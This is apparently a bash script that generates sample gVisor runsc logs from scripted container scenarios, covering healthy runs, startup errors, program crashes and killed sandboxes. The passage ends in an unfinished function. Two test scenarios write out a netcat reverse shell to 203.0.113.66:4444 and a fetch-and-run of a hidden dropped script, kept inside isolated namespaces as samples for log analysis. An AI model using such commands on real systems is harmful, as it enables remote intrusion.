#!/usr/bin/env bash
# Makes the folder samples/: real runsc logs from real runs, a folder a run, with what truly happened in sample.json.
#
#   make-samples.sh RUNSC_DIR OUT_DIR [SCENARIO ...]
#
# RUNSC_DIR holds runsc-20221219 and runsc-20240729; OUT_DIR is samples/. With names of scenarios only those are made
# again. Needs root, bash, jq, gcc, util-linux and a static busybox.
#
# Everything runs in namespaces of its own (mounts, processes, network, cgroups, host name) with an empty environment,
# for two reasons: nothing of the machine gets into a log, and nothing is left behind: with the first process of the
# process namespace all sandboxes end, and with the mount namespace all bundles go.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
me=$here/$(basename "${BASH_SOURCE[0]}")

die() {
  echo "make-samples: $*" >&2
  exit 1
}

if [ "${1:-}" != --inside ]; then
  [ $# -ge 2 ] || die "usage: make-samples.sh RUNSC_DIR OUT_DIR [SCENARIO ...]"
  [ "$(id -u)" = 0 ] || die "must run as root"
  for tool in jq gcc unshare busybox setpriv; do
    command -v "$tool" > /dev/null || die "$tool is missing"
  done
  binaries=$(cd "$1" && pwd)
  mkdir -p "$2" /tmp/runsc
  out=$(cd "$2" && pwd)
  shift 2
  # What must not be in a sample: this machine's name, and the values of its environment that are long enough to tell.
  forbidden=$(mktemp)
  trap 'rm -f "$forbidden"; rmdir /tmp/runsc 2> /dev/null || true' EXIT
  {
    printf '%s\n' "${here%/test/tools}/" "$(uname -r)" "$(uname -n)"
    env -0 | while IFS= read -r -d '' pair; do printf '%s\n' "${pair#*=}" | head -n 1; done
  } | awk 'length >= 10' | grep -vxE '/usr/bin/.*|/root' | sort -u > "$forbidden"
  env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/root TERM=dumb LC_ALL=C \
    unshare --mount --uts --net --cgroup --pid --fork --kill-child --mount-proc bash "$me" --inside "$binaries" "$out" "$forbidden" "$@"
  exit
fi

binaries=$2 out=$3 forbidden=$4
shift 4
only=" $* "

# ---------------------------------------------------------------------------------------------------- the stage

cd /
hostname node
echo 2900 > /proc/sys/kernel/ns_last_pid # process ids as on a host that is up for a while
for dir in /run /tmp/runsc /usr/local/bin /srv /opt; do mount -t tmpfs -o mode=755 none "$dir"; done
mkdir -p /run/bundles /run/stage /srv/app

# A host without /dev/kvm and without cgroup controllers, whatever this machine has.
mkdir /run/dev
mount --bind /dev /run/dev
mount -t tmpfs -o mode=755 none /dev
for node in null zero full random urandom tty; do
  touch "/dev/$node"
  mount --bind "/run/dev/$node" "/dev/$node"
done
umount /run/dev
mount -t tmpfs -o mode=755 none /sys/fs/cgroup

stage=/run/stage
logs=/tmp/runsc
runsc=/usr/local/bin/runsc

busybox=$(command -v busybox)
rootfs=$stage/rootfs
mkdir -p "$rootfs"/{bin,dev,etc,proc,sys,tmp,usr/bin,var/empty}
cp "$busybox" "$rootfs/bin/busybox"
for applet in sh cat chmod cp cut echo env grep head id kill ls mkdir mv nc rm sleep sort tail touch tr true wc; do
  ln -s busybox "$rootfs/bin/$applet"
done
echo web > "$rootfs/etc/hostname"
echo 'root:x:0:0:root:/root:/bin/sh' > "$rootfs/etc/passwd"
echo 'root:x:0:' > "$rootfs/etc/group"

# probe: one small program for all that a shell cannot do; greet: the same, but it needs libraries.
gcc -O1 -w -static -pthread -o "$stage/probe" "$here/samples-probe.c"
gcc -O1 -w -static -o "$stage/forger" "$here/samples-forger.c"
echo 'void greet(void) {}' > "$stage/greet.c"
gcc -O1 -shared -fPIC -Wl,-soname,libgreet.so.1 -o "$stage/libgreet.so.1" "$stage/greet.c"
gcc -O1 -w -pthread -Wl,--no-as-needed -o "$stage/greet" "$here/samples-probe.c" "$stage/libgreet.so.1"
cp "$stage/probe" "$rootfs/usr/bin/probe"

# What Docker would write for `docker run --runtime=runsc alpine`, without what no scenario needs.
base_spec() {
  cat << 'JSON'
{
  "ociVersion": "1.0.2",
  "process": {
    "user": { "uid": 0, "gid": 0 },
    "args": ["/bin/true"],
    "env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root"],
    "cwd": "/",
    "capabilities": {
      "bounding": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SETGID", "CAP_SETUID"],
      "effective": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SETGID", "CAP_SETUID"],
      "permitted": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SETGID", "CAP_SETUID"]
    },
    "rlimits": [{ "type": "RLIMIT_NOFILE", "hard": 1024, "soft": 1024 }]
  },
  "root": { "path": "rootfs" },
  "hostname": "web",
  "mounts": [
    { "destination": "/proc", "type": "proc", "source": "proc" },
    { "destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "mode=755"] },
    { "destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"] }
  ],
  "linux": {
    "namespaces": [
      { "type": "pid" }, { "type": "network" }, { "type": "ipc" }, { "type": "uts" }, { "type": "mount" }
    ]
  }
}
JSON
}

# ------------------------------------------------------------------------------------- words for the scenarios

# about TEXT, cause TEXT: for sample.json. decisive TEXT: must stand in the files; a sample that lacks it is no sample.
about() { about=$1; }
cause() { cause=$1; }
decisive() { decisive=$1; }

# flag FLAG ...: flags for the commands of this scenario that follow; one that is set already is replaced.
flag() {
  local new old kept
  for new; do
    kept=()
    for old in "${flags[@]}"; do [ "${old%%=*}" = "${new%%=*}" ] || kept+=("$old"); done
    flags=("${kept[@]}" "$new")
  done
}

# log_json: an error log beside the debug logs, as Docker and containerd ask for one.
log_json() { flag "--log=$logs/log.json" --log-format=json; }

# bundle ID FILTER: a bundle whose spec is the base one changed by a jq filter.
bundle() {
  rm -rf "/run/bundles/$1"
  mkdir -p "/run/bundles/$1"
  cp -a "$rootfs" "/run/bundles/$1/rootfs"
  base_spec | jq "${2:-.}" > "/run/bundles/$1/config.json"
}

# sh_bundle ID SCRIPT: a bundle that runs a shell script.
sh_bundle() { bundle "$1" ".process.args = [\"/bin/sh\", \"-c\", $(jq -n --arg s "$2" '$s')]"; }

# edit_spec ID FILTER: one more change of a spec.
edit_spec() {
  local spec=/run/bundles/$1/config.json
  jq "$2" "$spec" > "$stage/spec.json"
  cp "$stage/spec.json" "$spec"
}

# bare COMMAND ...: with a known environment, since a shell adds its own to an empty one.
bare() { env -i PATH="$PATH" HOME="$HOME" TERM="$TERM" ${TZ:+TZ="$TZ"} "$@"; }

# run_runsc ARGUMENT ...: the command in full, recorded: its line, its status, what its caller saw.
run_runsc() {
  local status=0
  commands+=("${TZ:+TZ=$TZ }$runsc ${flags[*]} $*")
  bare "$runsc" "${flags[@]}" "$@" < /dev/null >> "$stage/stdout" 2>> "$stage/stderr" || status=$?
  [ "$exit" != 0 ] || exit=$status
}

# run_runsc_behind ARGUMENT ...: the same in the background; finish waits for it.
run_runsc_behind() {
  commands+=("$runsc ${flags[*]} $*")
  bare "$runsc" "${flags[@]}" "$@" < /dev/null >> "$stage/stdout" 2>> "$stage/stderr" &
  behind=$!
}
finish() {
  local status=0
  wait "$behind" || status=$?
  [ "$exit" != 0 ] || exit=$status
}

# run ID, create ID: the two commands that take a bundle.
run() { run_runsc run --bundle "/run/bundles/$1" "$1"; }
create() { run_runsc create --bundle "/run/bundles/$1" "$1"; }

# until_in FILE PATTERN: waits until a file below FILE holds the pattern; an action that comes too early gives another sample.
until_in() {
  local i
  for ((i = 0; i < 200; i++)); do
    ! grep -qrEa -- "$2" "$1" || return 0
    sleep 0.1
  done
  die "$scenario: waited 20 s in vain for: $2"
}

# until_logged PATTERN, until_said PATTERN: in a log; in what the container wrote (its script stands in the logs, too).
until_logged() { until_in "$logs" "$1"; }
until_said() { until_in "$stage/stdout" "$1"; }

# signal_sandbox SIGNAL: a signal to the boot process, whose id the creating command logs.
signal_sandbox() {
  local pid
  pid=$(grep -rhoaE 'Sandbox started, PID: [0-9]+' "$logs" | head -n 1 | grep -oE '[0-9]+$')
  kill "-$1" "$pid"
}

# -------------------------------------------------------------------------------------------- healthy scenarios

greeting='echo hi; ls /; cat /etc/hostname | wc -c'
until_told='trap "exit 0" TERM; echo ready; sleep 60 & wait'

healthy() {
  about 'A shell runs echo, ls and a pipe of two programs, and leaves with status 0.'
  decisive 'Exiting with status: 0'
  sh_bundle web "$greeting"
  run web
}

# Debug lines off, trace on: what an operator gets who adds --strace alone.
healthy_info_level() {
  flag --debug=false
  healthy
  about 'The same shell as in healthy-text, with --strace and without --debug.'
}

healthy_strace_subset() {
  flag --strace-syscalls=openat,read,write,execve --strace-log-size=16
  healthy
  about 'The same shell as in healthy-text, with --strace-syscalls naming four calls and --strace-log-size=16.'
}

# Without a slash at the end debug-log is one file for all processes.
healthy_mixed_file() {
  flag "--debug-log=$logs/runsc.log"
  healthy
  about 'The same shell as in healthy-text, with a debug-log that names a file: run, gofer and boot write into this one.'
}

healthy_pattern() {
  flag "--debug-log=$logs/%COMMAND%.%TIMESTAMP%.log"
  healthy
  about 'The same shell as in healthy-text, with a debug-log pattern of the user.'
}

# The re-executed processes lose TZ: one sandbox, two zones.
healthy_zone() {
  about 'The same shell as in healthy-text on a host with TZ=Asia/Kolkata: the files disagree about the hour.'
  decisive 'Exiting with status: 0'
  sh_bundle web "$greeting"
  TZ=Asia/Kolkata run web
}

healthy_pipeline() {
  about 'A shell starts pipes, background jobs and a loop: a dozen processes.'
  decisive 'Exiting with status: 0'
  sh_bundle job 'ls /bin | sort | tail -n 5 | tr a-z A-Z > /tmp/names
for n in 1 2 3; do echo "$n" & done; wait
mkdir /tmp/d; mv /tmp/names /tmp/d/; grep -c S /tmp/d/names; rm -r /tmp/d; exit 0'
  run job
}

# host_bundle SCRIPT: a bundle "job" that uses the network of the host.
host_bundle() {
  sh_bundle job "$1"
  edit_spec job 'del(.linux.namespaces[] | select(.type == "network"))'
  flag --network=host
}

# job SETTINGS: a job as it should be, whose settings are a shell script that it reads.
job() {
  host_bundle '. /etc/job.conf; tr a-z A-Z < /etc/hostname > /tmp/report; wc -c /tmp/report; exit 0'
  echo "$1" > /run/bundles/job/rootfs/etc/job.conf
}

# attacker SCRIPT: the other end of a connection to 203.0.113.66:4444, which says what the script prints.
attacker() {
  "$busybox" ip link set lo up
  "$busybox" ip address replace 203.0.113.66/32 dev lo
  bash -c "$1" | "$busybox" nc -l -p 4444 > /dev/null &
  behind=$!
  sleep 0.5
}

healthy_job() {
  about 'A job reads its settings, which are a shell script, and writes a report.'
  decisive 'Exiting with status: 0'
  job 'LEVEL=info'
  run job
}

attack_reverse_shell() {
  about 'The job of healthy-job, of whose settings somebody made a reverse shell; three commands are typed at its other end.'
  decisive 'Addr: 203.0.113.66, Port: 4444'
  attacker 'sleep 1; echo id; echo "cat /etc/passwd"; sleep 1; echo "touch /tmp/was-here; exit"; sleep 1'
  job 'nc 203.0.113.66 4444 -e /bin/sh'
  run job
  finish
}

attack_dropped_program() {
  about 'A shell fetches a script over the network, makes it executable in /tmp under a hidden name, runs it and removes it.'
  decisive '/tmp/.cache-x'
  attacker 'printf "#!/bin/sh\\nhead -n 1 /etc/passwd\\n"; sleep 0.5'
  host_bundle 'nc 203.0.113.66 4444 > /tmp/.cache-x; chmod +x /tmp/.cache-x; /tmp/.cache-x; rm /tmp/.cache-x; exit 0'
  run job
  finish
}

healthy_threads() {
  about 'A program with four threads that read a file each.'
  decisive 'worker-3'
  bundle job '.process.args = ["/usr/bin/probe", "threads"]'
  run job
}

weird_bytes() {
  about 'A program uses file names, thread names and arguments with blanks, quotes, newlines, invalid UTF-8, terminal escapes and forged log lines.'
  decisive 'forged by a file name'
  bundle job '.process.args = ["/usr/bin/probe", "names"]'
  run job
}

# The log as an application forges it; the JSON log of the same program, in which newlines are escaped, tells the truth.
forged() {
  about 'A program forges records in thirteen ways: with newlines and headers in paths, names, link targets and attributes.'
  decisive 'innocent'
  bundle job '.process.args = ["/usr/bin/forger"]'
  cp "$stage/forger" /run/bundles/job/rootfs/usr/bin/forger
  run job
}

# A program that asks for what is not there and goes on: the lines look bad and are not.
healthy_unsupported() {
  about 'A program makes three system calls that this release does not offer, and leaves with status 0; with a user log.'
  decisive 'Exiting with status: 0'
  bundle job '.process.args = ["/usr/bin/probe", "unsupported"]'
  run_runsc run "--user-log=$logs/user.log" --bundle /run/bundles/job job
}

healthy_bind_mount() {
  about 'A container reads and writes a file of the host through a bind mount.'
  decisive 'Exiting with status: 0'
  mkdir -p /srv/app/data
  echo 3 > /srv/app/data/count
  sh_bundle api 'cat /data/count; echo 4 > /data/count'
  edit_spec api '.mounts += [{destination: "/data", type: "bind", source: "/srv/app/data", options: ["rbind", "rw"]}]'
  run api
}

healthy_lifecycle() {
  about 'create, start, state, exec, kill, wait and delete of a container that ends by itself at SIGTERM.'
  decisive 'containerManager.Signal'
  log_json
  sh_bundle web "$until_told"
  create web
  run_runsc start web
  until_said '^ready'
  run_runsc state web
  run_runsc exec web /bin/id
  run_runsc_behind wait web
  until_logged 'containerManager.Wait, cid: web$'
  run_runsc kill web TERM
  finish
  run_runsc delete web
}

healthy_do() {
  about 'runsc do runs echo in a root file system without a bundle.'
  decisive 'Exiting with status: 0'
  bundle job
  run_runsc do --root=/run/bundles/job/rootfs --cwd=/ /bin/echo hi
}

# As the kubelet does it: a sandbox container first, then the container of the pod inside the same sandbox.
pod() {
  sh_bundle pod "$until_told"
  edit_spec pod '.annotations = {"io.kubernetes.cri.container-type": "sandbox"}'
  create pod
  run_runsc start pod
  until_said '^ready'
}
pod_container() {
  edit_spec "$1" '.annotations = {"io.kubernetes.cri.container-type": "container", "io.kubernetes.cri.sandbox-id": "pod"}'
  create "$1"
  run_runsc start "$1"
}

healthy_pod() {
  about 'A pod of two containers, the sandbox one and api, in one sandbox.'
  decisive 'io.kubernetes.cri.sandbox-id'
  pod
  sh_bundle api 'echo hi'
  pod_container api
  run_runsc wait api
  run_runsc delete --force api
  run_runsc kill pod KILL
  run_runsc delete --force pod
}

# ------------------------------------------------------------------------------- containers that do not start

args0_not_found() {
  about 'run of a container whose program is not in the image.'
  cause 'process.args[0] is the absolute path /usr/bin/webapp, and the image has no such file.'
  decisive 'failed to load /usr/bin/webapp: no such file or directory'
  bundle web '.process.args = ["/usr/bin/webapp", "--port=80"]'
  log_json
  run web
}

args0_not_in_path() {
  about 'run of a container whose program is in no folder of PATH.'
  cause 'process.args[0] is gunicorn, and no folder of the PATH in process.env holds a file of that name.'
  decisive 'error finding executable "gunicorn" in PATH'
  bundle api '.process.args = ["gunicorn", "app:api"]'
  run api
}

args0_not_executable() {
  about 'run of a container whose program lacks the right to execute.'
  cause 'process.args[0], /srv/start.sh, has mode 0644.'
  decisive 'failed to load /srv/start.sh: permission denied'
  bundle web '.process.args = ["/srv/start.sh"]'
  mkdir /run/bundles/web/rootfs/srv
  printf '#!/bin/sh\necho hi\n' > /run/bundles/web/rootfs/srv/start.sh
  run web
}

args0_directory() {
  about 'run of a container whose program is a folder.'
  cause 'process.args[0] is /usr/bin, a directory.'
  decisive 'failed to load /usr/bin: '
  bundle web '.process.args = ["/usr/bin"]'
  run web
}

args0_not_a_program() {
  about 'run of a container whose program is a script without a #! line.'
  cause 'process.args[0], /srv/start, is neither an ELF file nor a script with #!.'
  decisive 'failed to load /srv/start: exec format error'
  bundle web '.process.args = ["/srv/start"]'
  mkdir /run/bundles/web/rootfs/srv
  echo 'echo hi' > /run/bundles/web/rootfs/srv/start
  chmod 755 /run/bundles/web/rootfs/srv/start
  run web
}

script_interpreter_missing() {
  about 'run of a container whose program is a script for an interpreter that is not in the image.'
  cause 'The script /srv/app.py begins with #!/usr/bin/python3, and the image has no /usr/bin/python3.'
  decisive '/usr/bin/python3'
  bundle web '.process.args = ["/srv/app.py"]'
  mkdir /run/bundles/web/rootfs/srv
  printf '#!/usr/bin/python3\nprint("hi")\n' > /run/bundles/web/rootfs/srv/app.py
  chmod 755 /run/bundles/web/rootfs/srv/app.py
  run web
}

elf_interpreter_missing() {
  about 'run of a container whose program is dynamically linked, in an image without a dynamic loader.'
  cause 'The ELF interpreter /lib64/ld-linux-x86-64.so.2 of /usr/bin/greet is not in the image.'
  decisive '/lib64/ld-linux-x86-64.so.2'
  bundle web '.process.args = ["/usr/bin/greet"]'
  cp "$stage/greet" /run/bundles/web/rootfs/usr/bin/
  run web
}

elf_wrong_arch() {
  about 'run of a container whose program was built for another processor.'
  cause '/usr/bin/probe is an ELF file for AArch64, and the machine is x86-64.'
  decisive 'failed to load /usr/bin/probe: exec format error'
  bundle web '.process.args = ["/usr/bin/probe"]'
  # e_machine stands at byte 18 of an ELF file; 183 is EM_AARCH64.
  printf '\xb7\x00' | dd of=/run/bundles/web/rootfs/usr/bin/probe bs=1 seek=18 conv=notrunc status=none
  run web
}

args_empty() {
  about 'run of a container whose spec names no program.'
  cause 'process.args is an empty list.'
  decisive 'Spec.Process.Arg must be defined'
  bundle web '.process.args = []'
  log_json
  run web
}

bind_source_missing() {
  about 'create of a container with a bind mount from a host folder that is not there.'
  cause 'The source /srv/app/data of the bind mount at /data does not exist on the host; the gofer dies of it.'
  decisive '/srv/app/data: no such file or directory'
  bundle web '.mounts += [{destination: "/data", type: "bind", source: "/srv/app/data", options: ["rbind"]}]'
  log_json
  create web
}

rootfs_missing() {
  about 'create of a container whose bundle has no root file system.'
  cause 'root.path names the folder rootfs of the bundle, and /run/bundles/web/rootfs does not exist.'
  decisive '/run/bundles/web/rootfs'
  bundle web
  rm -r /run/bundles/web/rootfs
  create web
}

rootfs_is_a_file() {
  about 'create of a container whose root file system is a file.'
  cause 'root.path names rootfs of the bundle, and /run/bundles/web/rootfs is a regular file.'
  decisive 'Error setting up root FS: mounting root on root ("/proc/fs/root") err: not a directory'
  bundle web
  rm -r /run/bundles/web/rootfs
  touch /run/bundles/web/rootfs
  create web
}

mount_file_over_directory() {
  about 'run of a container with a bind mount of a host file on a folder of the image.'
  cause 'The source /srv/app/settings is a file and the destination /etc is a directory; the gofer dies of it.'
  decisive 'open /proc/fs/root/etc: is a directory'
  echo debug=1 > /srv/app/settings
  bundle web '.mounts += [{destination: "/etc", type: "bind", source: "/srv/app/settings", options: ["bind"]}]'
  run web
}

mount_destination_relative() {
  about 'run of a container with a mount destination that is not absolute.'
  cause 'The mount of /srv/app has the destination var/lib/data, a relative path.'
  decisive 'Mount.Destination must be an absolute path'
  bundle web '.mounts += [{destination: "var/lib/data", type: "bind", source: "/srv/app", options: ["rbind"]}]'
  run web
}

# What Docker makes of an image with VOLUME [ /data ]: not JSON, so it is split at blanks.
volume_destination() {
  local volume
  about 'create of a container with an anonymous volume at the mount destination "[".'
  cause 'An anonymous volume has the mount destination "[", which is not absolute: the VOLUME instruction of the image is not a JSON array of strings.'
  decisive 'Mount.Destination must be an absolute path: &{[ bind'
  volume=$(echo data | sha256sum | cut -c1-64)
  bundle web ".mounts += [{destination: \"[\", type: \"bind\", source: \"/var/lib/docker/volumes/$volume/_data\", options: [\"rbind\"]}]"
  log_json
  create web
}

config_malformed() {
  about 'run of a bundle with a config.json that ends in the middle.'
  cause 'config.json of the bundle is cut off after 300 bytes and therefore not JSON.'
  decisive 'error unmarshaling spec from file "/run/bundles/web/config.json": unexpected end of JSON input'
  bundle web
  truncate -s 300 /run/bundles/web/config.json
  run web
}

config_missing() {
  about 'run of a bundle without a config.json.'
  cause 'The bundle /run/bundles/web has no config.json.'
  decisive '/run/bundles/web/config.json: no such file or directory'
  bundle web
  rm /run/bundles/web/config.json
  run web
}

capability_unknown() {
  about 'run of a container whose spec names a capability that does not exist.'
  cause 'process.capabilities.bounding names CAP_NET_BIND, which is no capability.'
  decisive 'capability "CAP_NET_BIND"'
  bundle web '.process.capabilities.bounding += ["CAP_NET_BIND"]'
  run web
}

rlimit_unknown() {
  about 'run of a container whose spec names a resource limit that does not exist.'
  cause 'process.rlimits names RLIMIT_FILES, which is no resource limit.'
  decisive 'unknown resource "RLIMIT_FILES"'
  bundle web '.process.rlimits[0].type = "RLIMIT_FILES"'
  log_json
  run web
}

platform_unknown() {
  about 'run with a platform that runsc does not know.'
  cause 'The flag --platform names "systrap2", which is no platform of runsc.'
  decisive 'unknown platform: systrap2'
  bundle web
  flag --platform=systrap2
  run web
}

platform_kvm_missing() {
  about 'run with --platform=kvm on a host without /dev/kvm.'
  cause 'The host has no /dev/kvm.'
  decisive 'error opening KVM device file (/dev/kvm)'
  bundle web
  flag --platform=kvm
  run web
}

# runsc refuses it before it opens a log: what the caller saw is all there is.
flag_unknown() {
  about 'run with a flag that runsc does not know.'
  cause 'runsc has no flag --cgroup-manager.'
  decisive 'flag provided but not defined: -cgroup-manager'
  bundle web
  flag --cgroup-manager=systemd
  run web
}

# The debug log is a folder, but without the slash it is taken for a file.
debug_log_is_a_directory() {
  about 'run with a debug-log that names a folder and does not end in a slash.'
  cause '--debug-log=/tmp/runsc names an existing directory as if it were a file.'
  decisive 'open /tmp/runsc: is a directory'
  bundle web
  flag "--debug-log=$logs"
  run web
}

netns_missing() {
  about 'run of a container in a network namespace that is not there.'
  cause 'linux.namespaces names /run/netns/web, and the host has no such file.'
  decisive 'open /run/netns/web: no such file or directory'
  bundle web '(.linux.namespaces[] | select(.type == "network")).path = "/run/netns/web"'
  flag --network=sandbox
  run web
}

hook_fails() {
  about 'run of a container whose prestart hook fails.'
  cause 'The prestart hook /opt/hooks/register leaves with status 3.'
  decisive 'failure executing hook "/opt/hooks/register", err: exit status 3'
  mkdir -p /opt/hooks
  printf '#!/bin/sh\necho "register: no answer from the service registry" >&2\nexit 3\n' > /opt/hooks/register
  chmod 755 /opt/hooks/register
  bundle web '.hooks.prestart = [{path: "/opt/hooks/register", args: ["register", "web"]}]'
  log_json
  run web
}

hook_missing() {
  about 'run of a container whose prestart hook is not installed.'
  cause 'The prestart hook /usr/bin/nvidia-container-runtime-hook is not on the host.'
  decisive '/usr/bin/nvidia-container-runtime-hook: no such file or directory'
  bundle web '.hooks.prestart = [{path: "/usr/bin/nvidia-container-runtime-hook", args: ["nvidia-container-runtime-hook", "prestart"]}]'
  run web
}

id_exists() {
  about 'create of a container under an id that is in use, twice, then delete.'
  cause 'A container with the id web exists already.'
  decisive 'container already exists'
  log_json
  bundle web
  create web
  create web
  run_runsc delete --force web
}

id_invalid() {
  about 'create of a container under an id that runsc does not take.'
  cause 'The id "web/1" holds a slash.'
  decisive 'invalid container id: web/1'
  bundle web
  run_runsc create --bundle /run/bundles/web web/1
}

id_unknown() {
  about 'start of a container that was never created.'
  cause 'There is no container with the id api.'
  decisive 'FATAL ERROR: loading container: file does not exist'
  run_runsc start api
}

cwd_not_a_directory() {
  about 'run of a container whose working directory is a file.'
  cause 'process.cwd is /etc/passwd, a regular file.'
  decisive 'mkdir /proc/fs/root/etc/passwd: not a directory'
  bundle web '.process.cwd = "/etc/passwd"'
  run web
}

# A search right is missing on the way to the program: the error looks like that of a file without x.
rootfs_closed() {
  about 'run of a container as user 1000 in a root file system that only root may enter.'
  cause 'The top folder of the root file system has mode 0750, so user 1000 cannot reach /bin/true.'
  decisive 'failed to load /bin/true: permission denied'
  bundle web '.process.user = {uid: 1000, gid: 1000} | del(.process.capabilities)'
  chmod 750 /run/bundles/web/rootfs
  run web
}

cgroup_missing() {
  about 'run with a cgroup path on a host whose cgroup controllers are not mounted.'
  cause 'linux.cgroupsPath asks for a cgroup, and the host has nothing mounted below /sys/fs/cgroup.'
  decisive 'configuring cgroup: stat /sys/fs/cgroup/'
  bundle web '.linux.cgroupsPath = "/docker/web"'
  local kept=() one
  for one in "${flags[@]}"; do [ "$one" = --ignore-cgroups ] || kept+=("$one"); done
  flags=("${kept[@]}")
  run web
}

filestore_stale() {
  about 'run of a container over a root file system that holds the file store of a killed one.'
  cause 'The file .gvisor.filestore.web, left by an earlier container of that id, is still in the root file system.'
  decisive 'already has a filestore file'
  bundle web
  touch /run/bundles/web/rootfs/.gvisor.filestore.web
  run web
}

overlay_directory_missing() {
  about 'run with an overlay kept in a host folder that is not there.'
  cause '--overlay2 names the host directory /var/lib/gvisor/overlay, which does not exist.'
  decisive 'stat /var/lib/gvisor/overlay: no such file or directory'
  bundle web
  flag --overlay2=root:dir=/var/lib/gvisor/overlay
  run web
}

exec_not_found() {
  about 'Two exec commands for programs that are not in the image of the running container; log.json holds both errors without a newline between.'
  cause 'The image has neither /bin/bash nor /usr/bin/python3; the container itself runs.'
  decisive 'failed to load /bin/bash: no such file or directory'
  log_json
  sh_bundle web "$until_told"
  create web
  run_runsc start web
  until_said '^ready'
  run_runsc exec web /bin/bash -c id
  run_runsc exec web /usr/bin/python3 -V
  run_runsc delete --force web
}

symlink_loop() {
  about 'run of a container whose program is a symbolic link to itself.'
  cause 'process.args[0], /bin/app, is a symbolic link to itself.'
  decisive 'failed to load /bin/app: too many symbolic links encountered'
  bundle web '.process.args = ["/bin/app"]'
  ln -s app /run/bundles/web/rootfs/bin/app
  run web
}

pod_sandbox_missing() {
  about 'create of a container of a pod whose sandbox is not there.'
  cause 'The annotation io.kubernetes.cri.sandbox-id names pod, and there is no container with that id.'
  decisive 'cannot load sandbox: '
  bundle api '.annotations = {"io.kubernetes.cri.container-type": "container", "io.kubernetes.cri.sandbox-id": "pod"}'
  create api
}

pod_args0_not_found() {
  about 'start of the second container of a pod, whose program is not in the image; the pod itself goes on.'
  cause 'process.args[0] of the container api is /usr/bin/api-server, and its image has no such file.'
  decisive 'failed to load /usr/bin/api-server: no such file or directory'
  log_json
  pod
  bundle api '.process.args = ["/usr/bin/api-server"]'
  pod_container api
  run_runsc delete --force api
  run_runsc kill pod KILL
  run_runsc delete --force pod
}

# --------------------------------------------------------------------------------------------- programs that fail

exit_42() {
  about 'A shell leaves with status 42.'
  cause 'The program itself left with status 42, after it could not read its settings: /etc/app.conf is not in the image.'
  decisive 'Exiting with status: 10752'
  sh_bundle job 'cat /etc/app.conf || exit 42'
  run job
}

app_segv() {
  about 'A program reads from address 8.'
  cause 'The program probe died of SIGSEGV at address 8, a null pointer with an offset.'
  decisive 'Exiting with status: 11'
  bundle job '.process.args = ["/usr/bin/probe", "segv"]'
  run job
}

app_abort() {
  about 'A program calls abort.'
  cause 'The program probe ended itself with SIGABRT.'
  decisive 'Exiting with status: 6'
  bundle job '.process.args = ["/usr/bin/probe", "abort"]'
  run job
}

library_missing() {
  about 'A dynamically linked program starts, and its loader does not find a library.'
  cause 'The shared library libgreet.so.1 of /usr/bin/greet is not in the image.'
  decisive '/lib/x86_64-linux-gnu/libgreet.so.1'
  bundle web '.process.args = ["/usr/bin/greet"]'
  local root=/run/bundles/web/rootfs
  mkdir -p "$root/lib64" "$root/lib/x86_64-linux-gnu"
  cp "$stage/greet" "$root/usr/bin/"
  cp -L /lib64/ld-linux-x86-64.so.2 "$root/lib64/"
  cp -L /lib/x86_64-linux-gnu/libc.so.6 "$root/lib/x86_64-linux-gnu/"
  run web
}

shell_command_not_found() {
  about 'A shell script calls a program that is not in the image.'
  cause 'The image has no program nginx in PATH, so the shell left with status 127.'
  decisive 'nginx: not found'
  sh_bundle web 'nginx -g "daemon off;"'
  run web
}

access_denied() {
  about 'A program without root rights reads a file that only root may read.'
  cause 'User 1000 may not read /etc/secret, which has mode 0600 and belongs to root.'
  decisive 'permission denied'
  bundle api '.process.args = ["/bin/cat", "/etc/secret"] | .process.user = {uid: 1000, gid: 1000} | del(.process.capabilities)'
  echo secret > /run/bundles/api/rootfs/etc/secret
  chmod 600 /run/bundles/api/rootfs/etc/secret
  run api
}

connection_refused() {
  about 'A program connects to a port of the loopback interface on which nobody listens.'
  cause 'Nothing listens on 127.0.0.1:5432 inside the sandbox, so connect failed with ECONNREFUSED.'
  decisive 'errno=111'
  bundle api '.process.args = ["/usr/bin/probe", "connect"]'
  run api
}

too_many_files() {
  about 'A program opens files until it may not open one more.'
  cause 'process.rlimits allows 12 open files, so openat failed with EMFILE.'
  decisive 'errno=24'
  bundle job '.process.args = ["/usr/bin/probe", "files"] | .process.rlimits[0] = {type: "RLIMIT_NOFILE", soft: 12, hard: 12}'
  run job
}

read_only_root() {
  about 'A program writes into a read-only root file system.'
  cause 'root.readonly is set, so /var/app.pid cannot be made.'
  decisive 'errno=30'
  sh_bundle web 'echo $$ > /var/app.pid'
  edit_spec web '.root.readonly = true'
  run web
}

deadlock() {
  about 'Two threads of a program wait for each other; the operator ends the container with SIGKILL.'
  cause 'Each of two threads of probe holds the lock that the other one waits for.'
  decisive 'futex(0x'
  bundle job '.process.args = ["/usr/bin/probe", "deadlock"]'
  create job
  run_runsc start job
  until_said '^both locked'
  sleep 1
  run_runsc_behind wait job
  until_logged 'containerManager.Wait, cid: job$'
  run_runsc kill job KILL
  finish
  run_runsc delete job
}

# ------------------------------------------------------------------------------------- sandboxes that do not end well

running_then() {
  sh_bundle web "$until_told"
  run_runsc_behind run --bundle /run/bundles/web web
  until_said '^ready'
  signal_sandbox "$1"
  finish
}

sandbox_killed() {
  about 'The sandbox process is killed from outside while the container runs: the boot log just stops.'
  decisive 'Exiting with status: 9'
  cause 'The sandbox process got SIGKILL from outside, as from the memory killer of the kernel; the logs cannot say from whom.'
  log_json
  running_then KILL
}

# Once the container runs, the sentry hands signals on to it; before, they meet the Go runtime.
go_traceback() {
  about 'The sandbox process gets SIGABRT from outside between create and start; the Go runtime writes all goroutines into the boot log.'
  cause 'The sandbox process got SIGABRT from outside before start.'
  decisive 'SIGABRT: abort'
  log_json
  sh_bundle web "$until_told"
  create web
  signal_sandbox ABRT
  until_logged 'SIGABRT: abort'
  run_runsc start web
  run_runsc delete --force web
}

panic_signal() {
